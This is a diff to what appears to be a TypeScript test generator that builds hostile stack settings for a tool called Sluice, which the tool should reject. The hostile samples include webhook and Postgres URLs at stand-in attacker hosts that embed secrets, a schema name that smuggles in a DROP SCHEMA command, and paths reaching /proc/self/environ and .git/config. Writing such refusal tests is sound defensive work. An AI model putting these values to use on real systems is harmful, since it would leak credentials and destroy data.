@@ -34,8 +34,13 @@ const base: WrittenObject = {
 const trusted = { SLUICE_BASE_URL: operatorsUrl };
 
 /** A stack file of the operator, or one that tries something. */
-export function settingsOf(loot: Loot, dice: Dice, names: NamesByKind, boldness: Boldness): StackSettings {
-  const plain = api({});
+export function settingsOf(
+  loot: Loot,
+  dice: Dice,
+  { names, isShared }: { readonly names: NamesByKind; readonly isShared: boolean },
+  boldness: Boldness,
+): StackSettings {
+  const plain = { ...api({}), ...stateIn(isShared), ...access(dice) };
   if (boldness !== 'refusable' || dice.odds(0.3))
     return { file: { ...plain, ...patches(loot, dice, names, boldness) }, env: trusted, isAllowed: true };
   const refused = (said: WrittenObject, env: StackSettings['env'] = trusted): StackSettings => ({
@@ -60,17 +65,64 @@ export function settingsOf(loot: Loot, dice: Dice, names: NamesByKind, boldness:
         }),
       ),
     () => refused(api({ key: loot.literal() })),
+    // A watch may say by webhook that there is no key.
+    () => ({
+      ...refused(api({ key: { from_env: dice.one(['SLUICE_STATE_URL', 'SLUICE_HOOK_URL', 'SLUICE_NONE']) } })),
+      env: { ...trusted, SLUICE_API_KEY: '' },
+      isAllowed: true,
+    }),
+    () => refused({ watch: { ...watch, notify: [{ url: `https://hooks.attacker.example/${loot.literal()}` }] } }),
+    () =>
+      refused({
+        watch: { ...watch, notify: [{ url: { from_env: 'SLUICE_STATE_URL' } }] },
+        ...api({ proxy: attackersUrl }),
+      }),
     () => refused({ secrets: { dirs: [dice.one(['../far', 'link', '/', '..', '/proc/self'])] } }),
     () =>
       refused({ secrets: { env_files: [dice.one(['../far/env', 'link/env', '/proc/self/environ', '.git/config'])] } }),
     () => refused({ watch: { ...watch, notify: [{ url: loot.source('https://x') }] } }),
     () => refused({ watch: { ...watch, notify: [{ url: { from_env: 'CONNECTION' } }] } }),
     () => refused({ [dice.one(['tokn', 'password'])]: loot.literal() }),
+    () => refused(postgres({ url: { from_env: dice.one(['DATABASE_URL', 'SLUICE_VAR_0', 'PGPASSWORD']) } })),
+    () => refused(postgres({ url: { from_env: dice.one(['SLUICE_API_KEY', 'SLUICE_HOOK_URL', 'SLUICE_NONE']) } })),
+    () => refused(postgres({ url: `postgresql://ci:${loot.literal()}@db.attacker.example/ci` })),
+    () => refused(postgres({ url: { from_file: 'outside/key' } })),
+    () => refused(postgres({ url: operatorsDatabase, schema: `x"; DROP SCHEMA sluice; --` })),
+    () => refused({ ...postgres({ url: operatorsDatabase }), ...api({ base_url: attackersUrl }) }),
+    () =>
+      refused({
+        state: { path: dice.one(['../far/file', '.git/config', 'link/file', '../far/env', '/proc/self/environ']) },
+      }),
+    () => refused({ access: { public: [loot.source('text')] } }),
   ])();
 
   function api(said: WrittenObject): WrittenObject {
     return { ...base, api: { base_url: operatorsUrl, ...said } };
   }
+}
+
+const operatorsDatabase: WrittenObject = { from_env: 'SLUICE_STATE_URL' };
+
+function postgres(said: WrittenObject): WrittenObject {
+  return { state: { postgres: said } };
+}
+
+/** Where the operator keeps the state. */
+function stateIn(isShared: boolean): WrittenObject {
+  return isShared ? postgres({ url: operatorsDatabase }) : {};
+}
+
+/** What is said to be public, and what is blocked. */
+function access(dice: Dice): WrittenObject {
+  return dice.one<() => WrittenObject>([
+    () => ({}),
+    () => ({}),
+    () => ({ access: { public: [] } }),
+    () => ({ access: { public: dice.some(['*', '*.example.com/*', 'shop.example.com', '*:8443/api/*'], 2) } }),
+    () => ({
+      policy: { block: ['PUBLICLY_EXPOSED', 'EXPOSES_PUBLICLY'], max_deletes: dice.one<Written>([0, '100%']) },
+    }),
+  ])();
 }
 
 /** Settings that the operator need not allow, because they lead nowhere else. */
